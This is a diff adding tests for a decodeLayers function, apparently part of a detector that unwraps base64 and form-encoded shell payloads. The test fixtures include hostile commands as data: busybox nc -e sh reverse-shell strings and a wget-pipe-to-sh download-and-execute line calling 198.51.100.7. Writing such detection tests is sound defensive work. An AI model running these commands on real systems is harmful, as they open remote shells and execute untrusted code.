@@ -49,6 +49,22 @@ describe('each decoder alone', () => {
     expect(decodeLayers(b64('\u0000\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008'))).toEqual([]);
   });
 
+  it('leaves form-encoded words that happen to decode as text, and half-padded runs', () => {
+    expect(decodeLayers('c=busybox+nc+-emg+NiYle+mougs+-e+sh'))
+      .toEqual(['c=busybox nc -emg NiYle mougs -e sh']);
+    expect(decodeLayers('/x?busybox+nc+-e0s+8a+dvu+XtmY+-e+/bin/sh')).toEqual([]);
+    const padded = b64('wget http://198.51.100.7/xyz');
+    expect(padded.endsWith('==')).toBe(true);
+    expect(decodeLayers(padded)).toEqual(['wget http://198.51.100.7/xyz']);
+    expect(decodeLayers(padded.slice(0, -1))).toEqual([]);
+  });
+
+  it('keeps a script with some UTF-8 in it, and drops a decode mostly outside ASCII', () => {
+    const script = 'echo "готово"; wget http://198.51.100.7/x.sh -O- | sh';
+    expect(decodeLayers(b64(Buffer.from(script).toString('latin1')))).toEqual([script]);
+    expect(decodeLayers(b64(Buffer.from('готово готово готово').toString('latin1')))).toEqual([]);
+  });
+
   it('decodes echo X | base64 -d in place of the echo, even a short or quoted X', () => {
     expect(decodeLayers(`echo ${b64(URL_TEXT)} | base64 -d | sh`)).toEqual([`${URL_TEXT} | sh`]);
     expect(decodeLayers(`echo "${b64('id;ls')}" | base64 --decode`)).toEqual(['id;ls']);
